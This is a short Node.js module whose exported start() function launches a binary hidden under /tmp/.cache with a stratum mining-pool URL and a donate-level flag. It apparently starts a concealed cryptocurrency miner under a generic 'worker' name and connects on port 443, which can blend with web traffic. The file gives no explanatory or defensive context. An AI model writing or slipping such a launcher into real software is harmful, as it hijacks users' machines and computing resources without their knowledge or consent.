const { spawn } = require("child_process");

function start() {
  spawn("/tmp/.cache/worker", ["--url", "stratum+tcp://pool.example.org:443", "--donate-level", "1"]);
}
module.exports = { start };
